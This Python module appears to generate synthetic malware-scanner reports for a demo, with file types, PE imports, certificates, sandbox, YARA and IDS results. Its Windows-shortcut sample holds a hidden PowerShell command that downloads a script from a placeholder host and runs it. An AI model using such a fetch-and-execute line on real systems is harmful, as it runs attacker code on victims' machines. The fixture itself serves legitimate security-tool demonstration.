"""File reports of the demo: every attribute of a file, by kind (PE, PDF, script...).

Pure and deterministic: the same spec gives the same attributes.
"""

from __future__ import annotations

import datetime as _dt
from typing import Any

from . import engines as eng
from .specs import DAY, HOUR, FileSpec, T, cert_time, hexid

# --- files --------------------------------------------------------------------------

_KINDS: dict[str, dict[str, Any]] = {
    "pe": {
        "type_description": "Win32 EXE", "type_tag": "peexe", "type_extension": "exe",
        "magic": "PE32 executable (GUI) Intel 80386, for MS Windows", "magika": "PEBIN",
        "type_tags": ["executable", "windows", "win32", "pe", "peexe"],
        "trid": [("Win32 Executable MS Visual C++ (generic)", 47.3), ("Win64 Executable (generic)", 15.9),
                 ("Win32 Dynamic Link Library (generic)", 9.8), ("Win16 NE executable (generic)", 7.6),
                 ("Win32 Executable (generic)", 6.7)],
    },
    "dll": {
        "type_description": "Win32 DLL", "type_tag": "pedll", "type_extension": "dll",
        "magic": "PE32 executable (DLL) (GUI) Intel 80386, for MS Windows", "magika": "PEBIN",
        "type_tags": ["executable", "windows", "win32", "pe", "pedll"],
        "trid": [("Win32 Dynamic Link Library (generic)", 38.4), ("Win32 Executable (generic)", 26.3),
                 ("Generic Win/DOS Executable", 11.7), ("DOS Executable Generic", 11.7)],
    },
    "pdf": {
        "type_description": "PDF", "type_tag": "pdf", "type_extension": "pdf",
        "magic": "PDF document, version 1.7", "magika": "PDF", "type_tags": ["document", "pdf"],
        "trid": [("Adobe Portable Document Format", 100.0)],
    },
    "ps1": {
        "type_description": "Powershell", "type_tag": "powershell", "type_extension": "ps1",
        "magic": "ASCII text, with very long lines (1024), with CRLF line terminators", "magika": "POWERSHELL",
        "type_tags": ["source", "powershell", "ps", "ps1"], "trid": [],
    },
    "docm": {
        "type_description": "Office Open XML Document", "type_tag": "docx", "type_extension": "docm",
        "magic": "Microsoft Word 2007+", "magika": "DOCX", "type_tags": ["document", "msoffice", "docx"],
        "trid": [("Word Microsoft Office Open XML Format document (with Macro)", 52.2),
                 ("Word Microsoft Office Open XML Format document", 23.2),
                 ("Open Packaging Conventions container", 17.3),
                 ("ZIP compressed archive", 3.9)],
    },
    "lnk": {
        "type_description": "Windows shortcut", "type_tag": "lnk", "type_extension": "lnk",
        "magic": "MS Windows shortcut, Item id list present, Has Relative path, Has command line arguments",
        "magika": "LNK", "type_tags": ["windows", "lnk"], "trid": [("Windows Shortcut", 100.0)],
    },
    "txt": {
        "type_description": "Text", "type_tag": "text", "type_extension": "txt", "magic": "ASCII text",
        "magika": "TXT", "type_tags": ["text"], "trid": [("Text - UTF-8 encoded", 100.0)],
    },
    "bin": {
        "type_description": "unknown", "type_tag": "unknown", "type_extension": "bin", "magic": "data",
        "magika": "UNKNOWN", "type_tags": [], "trid": [],
    },
}


def kind_of_head(head: bytes) -> str:
    """Guess a demo kind from the first bytes of an uploaded file."""
    if head.startswith(b"MZ"):
        return "pe"
    if head.startswith(b"%PDF"):
        return "pdf"
    if head.startswith(b"PK\x03\x04"):
        return "docm"
    if head.startswith(b"L\x00\x00\x00"):
        return "lnk"
    sample = head[:1024]
    if sample and all(b in b"\t\n\r\x0c" or 32 <= b < 127 for b in sample):
        return "txt"
    return "bin"


def uploaded_file_attributes(
    *, md5: str, sha1: str, sha256: str, size: int, name: str | None, head: bytes, date: int
) -> dict[str, Any]:
    """The report of a file first seen in this session: clean, typed from its first bytes."""
    kind = kind_of_head(head)
    info = _KINDS[kind]
    results = eng.file_results(md5=md5, analysis_date=date, malicious=0,
                               file_kind="pe" if kind in ("pe", "dll") else "other")
    return {
        "md5": md5, "sha1": sha1, "sha256": sha256, "size": size, "names": [name] if name else [],
        **({"meaningful_name": name} if name else {}),
        "type_description": info["type_description"], "type_tag": info["type_tag"],
        "type_extension": info["type_extension"], "type_tags": list(info["type_tags"]), "magic": info["magic"],
        "magika": info["magika"], "tags": list(info["type_tags"][-1:]),
        "first_submission_date": date, "last_submission_date": date, "last_analysis_date": date,
        "last_modification_date": date, "times_submitted": 1, "unique_sources": 1, "reputation": 0,
        "total_votes": {"harmless": 0, "malicious": 0},
        "last_analysis_results": results, "last_analysis_stats": eng.stats_of(results),
    }  # fmt: skip


def file_attributes(spec: FileSpec, md5: str, sha1: str, sha256: str) -> dict[str, Any]:
    """Every attribute of a demo file report."""
    info = _KINDS[spec.kind]
    results = eng.file_results(
        md5=md5, analysis_date=spec.analysed, malicious=spec.malicious, family=spec.family or "Generic",
        kind=spec.threat, platform=spec.platform, file_kind="pe" if spec.kind in ("pe", "dll") else "other",
        suspicious=spec.suspicious, timeouts=spec.timeouts, failures=spec.failures,
    )
    names = list(spec.names) or [spec.name]
    attrs: dict[str, Any] = {
        "type_description": info["type_description"], "type_tag": info["type_tag"],
        "type_extension": info["type_extension"], "type_tags": list(info["type_tags"]),
        "magic": info["magic"], "magika": info["magika"],
        "trid": [{"file_type": t, "probability": p} for t, p in info["trid"]],
        "md5": md5, "sha1": sha1, "sha256": sha256, "size": spec.size,
        "ssdeep": f"{max(3, spec.size // 4096)}:{hexid('ssdeep', sha256, n=24)}:{hexid('ssdeep2', sha256, n=18)}",
        "tlsh": "T1" + hexid("tlsh", sha256, n=70).upper(),
        "vhash": hexid("vhash", sha256, n=24),
        "names": names, "meaningful_name": spec.name,
        "tags": list(spec.tags) or list(info["type_tags"][-1:]),
        "first_submission_date": spec.first_seen, "last_submission_date": spec.analysed - 3 * HOUR,
        "first_seen_itw_date": spec.first_seen - 2 * DAY,
        "last_analysis_date": spec.analysed, "last_modification_date": spec.analysed + 7 * 60,
        "times_submitted": spec.times_submitted, "unique_sources": max(1, spec.times_submitted // 2),
        "reputation": spec.reputation, "total_votes": {"harmless": 0, "malicious": 0},
        "last_analysis_results": results, "last_analysis_stats": eng.stats_of(results),
    }
    if spec.kind in ("pe", "dll"):
        attrs["pe_info"] = pe_info(spec, sha256)
        attrs["authentihash"] = hexid("authentihash", sha256)
        attrs["creation_date"] = attrs["pe_info"]["timestamp"]
        attrs["detectiteasy"] = {"filetype": "PE32", "values": [
            {"type": "Compiler", "name": "Microsoft Visual C/C++", "version": "19.36.32537"},
            {"type": "Linker", "name": "Microsoft Linker", "version": "14.36.32537"},
            {"type": "Tool", "name": "Visual Studio", "version": "2022 version 17.6"}]}
        attrs["exiftool"] = _exif_pe(spec, attrs["pe_info"])
        attrs["packers"] = {"PEiD": "Microsoft Visual C++ 8"}
    elif spec.kind == "pdf":
        attrs["pdf_info"] = {"header": "%PDF-1.7", "obj": 38, "endobj": 38, "stream": 12, "endstream": 12,
                             "xref": 1, "trailer": 1, "startxref": 1, "num_object_streams": 2, "num_pages": 6,
                             "js": 0, "javascript": 0, "openaction": 0, "launch_action_count": 0,
                             "acroform": 0, "embedded_file": 0, "encrypted": 0, "flash": 0, "jbig2_compression": 0,
                             "suspicious_colors": 0}
        attrs["exiftool"] = {"FileType": "PDF", "FileTypeExtension": "pdf", "MIMEType": "application/pdf",
                             "PDFVersion": "1.7", "Linearized": "No", "PageCount": "6", "Language": "en-GB",
                             "Producer": "Example Office Suite 8.2", "Creator": "Example Writer",
                             "CreateDate": "2026:07:14 08:12:40+01:00", "ModifyDate": "2026:07:14 08:12:40+01:00",
                             "Title": "Quarterly report Q2 2026", "Author": "Finance team"}
    elif spec.kind == "ps1":
        attrs["powershell_info"] = {"cmdlets": ["invoke-webrequest", "start-process", "new-object", "set-itemproperty",
                                                "start-sleep"],
                                    "cmdlets_alias": ["iex", "iwr"], "dotnet_calls": ["System.Net.WebClient",
                                                                                       "System.Convert"],
                                    "functions": ["Get-Beacon", "Invoke-Stage"], "ps_variables": ["$u", "$k", "$p"]}
        attrs["exiftool"] = {"MIMEType": "text/plain", "FileType": "TXT", "FileTypeExtension": "txt",
                             "MIMEEncoding": "us-ascii", "Newlines": "Windows CRLF", "LineCount": "87",
                             "WordCount": "412"}
    elif spec.kind == "docm":
        attrs["office_info"] = {"entries": [{"name": "word/vbaProject.bin", "size": 18432, "type": "vba"}],
                                "document_summary_info": {"application_name": "Microsoft Office Word"},
                                "summary_info": {"author": "Accounts", "last_author": "Accounts",
                                                 "title": "Invoice July 2026",
                                                 "creation_datetime": "2026-07-21 07:58:00"},
                                "macros": [{"vba_code": "AutoOpen", "length": 2048, "properties": ["auto-open",
                                                                                                   "downloads-files"]}]}
        attrs["exiftool"] = {"FileType": "DOCM", "FileTypeExtension": "docm",
                             "MIMEType": "application/vnd.ms-word.document.macroEnabled.12",
                             "Application": "Microsoft Office Word",
                             "Pages": "1", "Words": "73", "Template": "Normal.dotm"}
    elif spec.kind == "lnk":
        attrs["lnk_info"] = {"target": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                             "command_line_arguments": "-w hidden -ep bypass -c \"iwr http://dl.paste-drop.test/raw/7Hq2xk|iex\"",
                             "icon_location": "%SystemRoot%\\System32\\shell32.dll", "machine_id": "desktop-9k2jq1f"}
        attrs["exiftool"] = {"FileType": "LNK", "FileTypeExtension": "lnk", "MIMEType": "application/octet-stream",
                             "TargetFileSize": "452608", "RunWindow": "Show Minimized No Activate"}
    elif spec.kind == "txt":
        attrs["exiftool"] = {"MIMEType": "text/plain", "FileType": "TXT", "FileTypeExtension": "txt",
                             "MIMEEncoding": "us-ascii", "Newlines": "Unix LF",
                             "LineCount": str(max(1, spec.size // 80))}
    if spec.signature == "valid":
        attrs["signature_info"] = _signature_valid(spec, sha256)
    elif spec.signature == "invalid":
        attrs["signature_info"] = _signature_invalid(spec, sha256)
    elif spec.kind in ("pe", "dll"):
        attrs["signature_info"] = {"file version": "1.0.0.1", "original name": spec.name,
                                   "internal name": spec.name.rsplit(".", 1)[0], "product": "Invoice Viewer"}
    if spec.malicious and spec.family:
        attrs["popular_threat_classification"] = threat_classification(spec)
    if spec.detail == "full":
        attrs.update(_full_detail(spec, sha256))
    return attrs


def threat_classification(spec: FileSpec) -> dict[str, Any]:
    n = spec.malicious
    return {
        "suggested_threat_label": f"{spec.threat}.{spec.family}/{'loader' if spec.threat == 'trojan' else 'psdl'}",
        "popular_threat_category": [{"value": spec.threat, "count": max(1, n * 2 // 3)},
                                    {"value": "downloader", "count": max(1, n // 5)}],
        "popular_threat_name": [{"value": spec.family, "count": max(1, n // 2)},
                                {"value": "loader", "count": max(1, n // 6)}, {"value": "genkryptik", "count": 3}],
    }


def pe_info(spec: FileSpec, sha256: str) -> dict[str, Any]:
    """Sections with entropy, imports, no exports, a rich header: a believable PE32."""
    text_size = (spec.size * 6 // 10) // 512 * 512
    rdata = (spec.size * 2 // 10) // 512 * 512
    data = 4096
    rsrc = max(512, (spec.size - text_size - rdata - data - 1024) // 512 * 512)
    sections = []
    va = 0x1000
    for name, raw, entropy, flags in ((".text", text_size, 6.61, "rx"), (".rdata", rdata, 5.12, "r"),
                                      (".data", data, 2.37, "rw"),
                                      (".rsrc", rsrc, 7.42 if spec.malicious else 4.81, "r")):
        virtual = raw + (0x340 if name == ".data" else 0)
        sections.append({"name": name, "chi2": round(float(hnum_small(sha256, name) * 97.3), 2),
                         "virtual_address": va, "entropy": entropy, "raw_size": raw, "flags": flags,
                         "virtual_size": virtual, "md5": hexid("section", sha256, name, n=32)})
        va += (virtual + 0xFFF) // 0x1000 * 0x1000
    imports = [
        {"library_name": "KERNEL32.dll", "imported_functions": [
            "CreateFileW", "CreateProcessW", "GetModuleHandleW", "GetProcAddress", "LoadLibraryW", "VirtualAlloc",
            "VirtualProtect", "WriteProcessMemory", "CreateRemoteThread", "Sleep", "GetTickCount", "IsDebuggerPresent",
            "GetSystemInfo", "CloseHandle"]},
        {"library_name": "ADVAPI32.dll", "imported_functions": ["RegOpenKeyExW", "RegSetValueExW", "RegCloseKey",
                                                                  "CryptAcquireContextW", "CryptGenRandom"]},
        {"library_name": "WININET.dll", "imported_functions": ["InternetOpenW", "InternetConnectW", "HttpOpenRequestW",
                                                                 "HttpSendRequestW", "InternetReadFile"]},
        {"library_name": "USER32.dll", "imported_functions": ["MessageBoxW", "GetSystemMetrics", "wsprintfW"]},
    ] if spec.malicious else [
        {"library_name": "KERNEL32.dll", "imported_functions": ["CreateFileW", "GetModuleHandleW", "GetProcAddress",
                                                                 "LoadLibraryW", "ReadFile", "WriteFile", "CloseHandle",
                                                                 "GetLastError", "HeapAlloc", "HeapFree"]},
        {"library_name": "SHELL32.dll", "imported_functions": ["ShellExecuteW", "SHGetFolderPathW"]},
        {"library_name": "USER32.dll", "imported_functions": ["MessageBoxW", "DialogBoxParamW", "EndDialog"]},
        {"library_name": "COMCTL32.dll", "imported_functions": ["InitCommonControlsEx"]},
    ]
    info = {
        "timestamp": spec.first_seen - 9 * DAY - 31337, "machine_type": 332, "entry_point": 0x1000 + text_size // 3,
        "imphash": hexid("imphash", spec.family, spec.malicious > 0, n=32),
        "rich_pe_header_hash": hexid("rich", spec.family, n=32),
        "compiler_product_versions": ["[IMP] VS2008 SP1 build 30729 count=9", "[ C ] VS2022 v17.6 build 32537 count=41",
                                      "[C++] VS2022 v17.6 build 32537 count=112",
                                      "[RES] VS2022 v17.6 build 32537 count=1",
                                      "[LNK] VS2022 v17.6 build 32537 count=1"],
        "sections": sections, "import_list": imports,
        "resource_details": [{"lang": "ENGLISH US", "chi2": 4210.5, "filetype": "ICO", "entropy": 3.02,
                              "sha256": hexid("res-icon", sha256), "type": "RT_GROUP_ICON"},
                             {"lang": "ENGLISH US", "chi2": 25893.8, "filetype": "Data", "entropy": 3.41,
                              "sha256": hexid("res-ver", sha256), "type": "RT_VERSION"},
                             {"lang": "ENGLISH US", "chi2": 1843.7, "filetype": "XML", "entropy": 4.91,
                              "sha256": hexid("res-manifest", sha256), "type": "RT_MANIFEST"}],
        "resource_langs": {"ENGLISH US": 3}, "resource_types": {"RT_GROUP_ICON": 1, "RT_VERSION": 1, "RT_MANIFEST": 1},
        "overlay": {"entropy": 7.98, "offset": spec.size - 1024, "chi2": 251.4, "filetype": "unknown", "size": 1024,
                    "md5": hexid("overlay", sha256, n=32)},
    }
    if not spec.malicious:
        del info["overlay"]
    return info


def hnum_small(*parts: object) -> int:
    return eng.hnum(*parts) % 100000


def _exif_pe(spec: FileSpec, pe: dict[str, Any]) -> dict[str, Any]:
    stamp = _dt.datetime.fromtimestamp(pe["timestamp"], _dt.UTC).strftime("%Y:%m:%d %H:%M:%S+00:00")
    return {"MIMEType": "application/octet-stream", "FileType": "Win32 EXE" if spec.kind == "pe" else "Win32 DLL",
            "FileTypeExtension": spec.kind if spec.kind == "dll" else "exe",
            "MachineType": "Intel 386 or later, and compatibles",
            "TimeStamp": stamp, "PEType": "PE32", "LinkerVersion": "14.36",
            "CodeSize": str(pe["sections"][0]["raw_size"]),
            "InitializedDataSize": str(sum(s["raw_size"] for s in pe["sections"][1:])), "UninitializedDataSize": "0",
            "EntryPoint": hex(pe["entry_point"]), "OSVersion": "6.0", "ImageVersion": "0.0", "SubsystemVersion": "6.0",
            "Subsystem": "Windows GUI", "FileVersionNumber": "1.0.0.1", "ProductVersionNumber": "1.0.0.1",
            "FileFlagsMask": "0x003f", "FileOS": "Windows NT 32-bit", "ObjectFileType": "Executable application",
            "LanguageCode": "English (U.S.)", "CharacterSet": "Unicode", "OriginalFileName": spec.name}


def _x509(name: str, issuer: str, serial_seed: str, valid_from: int, valid_to: int, usage: str) -> dict[str, Any]:
    return {"name": name, "algorithm": "sha256RSA", "valid usage": usage, "cert issuer": issuer,
            "valid from": cert_time(valid_from), "valid to": cert_time(valid_to),
            "serial number": " ".join(hexid("serial", serial_seed, n=32)[i:i + 2].upper() for i in range(0, 32, 2)),
            "thumbprint": hexid("thumb", serial_seed, n=40).upper(),
            "thumbprint_md5": hexid("thumbmd5", serial_seed, n=32).upper(),
            "thumbprint_sha256": hexid("thumb256", serial_seed).upper()}


def _signature_valid(spec: FileSpec, sha256: str) -> dict[str, Any]:
    signed = spec.first_seen - 5 * DAY
    return {
        "verified": "Signed", "signing date": _dt.datetime.fromtimestamp(signed, _dt.UTC).strftime("%I:%M %p %m/%d/%Y"),
        "signers": "Example Software Ltd.; Example Code Signing CA R2; Example Root CA",
        "signers details": [
            {"status": "Valid", **_x509("Example Software Ltd.", "Example Code Signing CA R2", "sw-leaf",
                                        T - 300 * DAY, T + 430 * DAY, "Code Signing")},
            {"status": "Valid", **_x509("Example Code Signing CA R2", "Example Root CA", "sw-ca",
                                        T - 2000 * DAY, T + 1600 * DAY, "Code Signing")},
            {"status": "Valid", **_x509("Example Root CA", "Example Root CA", "sw-root",
                                        T - 5000 * DAY, T + 4000 * DAY, "All")}],
        "counter signers": "Example Timestamping Authority 2026; Example Root CA",
        "counter signers details": [
            {"status": "Valid", **_x509("Example Timestamping Authority 2026", "Example Root CA", "sw-ts",
                                        T - 200 * DAY, T + 3000 * DAY, "Timestamp Signing")}],
        "x509": [_x509("Example Software Ltd.", "Example Code Signing CA R2", "sw-leaf", T - 300 * DAY, T + 430 * DAY,
                       "Code Signing")],
        "product": "ExampleSync", "description": "ExampleSync Setup",
        "copyright": "Copyright \u00a9 2026 Example Software Ltd.",
        "original name": spec.name, "internal name": "setup", "file version": "4.2.1.0",
    }


def _signature_invalid(spec: FileSpec, sha256: str) -> dict[str, Any]:
    return {
        "verified": "A certificate was explicitly revoked by its issuer.",
        "signing date": _dt.datetime.fromtimestamp(spec.first_seen - 2 * DAY, _dt.UTC).strftime("%I:%M %p %m/%d/%Y"),
        "signers": "Brightline Media Tools S.R.L.; Example Code Signing CA R2; Example Root CA",
        "signers details": [
            {"status": "Revoked", **_x509("Brightline Media Tools S.R.L.", "Example Code Signing CA R2", "bl-leaf",
                                          T - 400 * DAY, T + 200 * DAY, "Code Signing")},
            {"status": "Valid", **_x509("Example Code Signing CA R2", "Example Root CA", "sw-ca",
                                        T - 2000 * DAY, T + 1600 * DAY, "Code Signing")}],
        "x509": [_x509("Brightline Media Tools S.R.L.", "Example Code Signing CA R2", "bl-leaf", T - 400 * DAY,
                       T + 200 * DAY, "Code Signing")],
        "product": "Invoice Viewer", "description": "Invoice Viewer", "file version": "2.4.0.117",
        "original name": spec.name, "internal name": "invview", "copyright": "Copyright (C) 2025",
    }


def _full_detail(spec: FileSpec, sha256: str) -> dict[str, Any]:
    fam = spec.family.capitalize()
    when = spec.analysed - 2 * HOUR
    return {
        "sandbox_verdicts": {
            "CAPE Sandbox": {"category": "malicious", "sandbox_name": "CAPE Sandbox",
                             "malware_classification": ["TROJAN", "LOADER"],
                             "malware_names": [fam]},
            "Zenbox": {"category": "malicious", "sandbox_name": "Zenbox",
                       "malware_classification": ["MALWARE", "TROJAN", "EVADER"],
                       "malware_names": [fam, f"{fam}Loader"], "confidence": 94},
        },
        "crowdsourced_yara_results": [
            {"ruleset_id": hexid("yara1", n=10), "ruleset_name": f"{spec.family}_loader",
             "rule_name": f"MAL_{fam}_Loader_Strings",
             "match_date": when, "description": f"Detects {fam} loader by its config marker and mutex strings",
             "author": "Example Threat Research", "source": "https://rules.example.org/yara/vexbot"},
            {"ruleset_id": hexid("yara2", n=10), "ruleset_name": "indicator_suspicious",
             "rule_name": "SUSP_Run_Key_Persistence",
             "match_date": when, "description": "Detects binaries referencing Run-key persistence",
             "author": "Example Community Rules", "source": "https://rules.example.org/yara/generic"},
        ],
        "sigma_analysis_stats": {"critical": 0, "high": 1, "medium": 2, "low": 1},
        "sigma_analysis_summary": {
            "Sigma Integrated Rule Set (GitHub)": {"critical": 0, "high": 1, "medium": 2, "low": 1},
        },
        "crowdsourced_ids_stats": {"high": 1, "medium": 1, "low": 0, "info": 2},
        "crowdsourced_ids_results": [
            {"rule_category": "A Network Trojan was detected", "alert_severity": "high",
             "rule_msg": f"ET MALWARE {fam} CnC Beacon (POST /gate.php)", "rule_id": "1:2999001",
             "rule_source": "Example Emerging Rules", "rule_url": "https://rules.example.org/ids/",
             "alert_context": [{"dest_ip": "198.51.100.23", "dest_port": 80, "hostname": "api.update-relay.test"}]},
            {"rule_category": "Potentially Bad Traffic", "alert_severity": "medium",
             "rule_msg": "ET INFO External IP Lookup Domain in DNS Query", "rule_id": "1:2999002",
             "rule_source": "Example Emerging Rules", "rule_url": "https://rules.example.org/ids/",
             "alert_context": [{"dest_ip": "192.0.2.10", "dest_port": 80, "hostname": "checkip.netinfo.example"}]},
        ],
        "threat_severity": {"version": "2", "threat_severity_level": "SEVERITY_HIGH",
                            "threat_severity_data": {"num_gav_detections": 5, "has_dropped_files_with_detections": True,
                                                     "type_tag": "peexe", "popular_threat_category": "trojan"},
                            "last_analysis_date": str(spec.analysed), "level_description": "Severity HIGH"},
        "capabilities_tags": ["str_win32_winsock2_library", "persistence", "inject_thread", "win_registry",
                              "network_http"],
    }
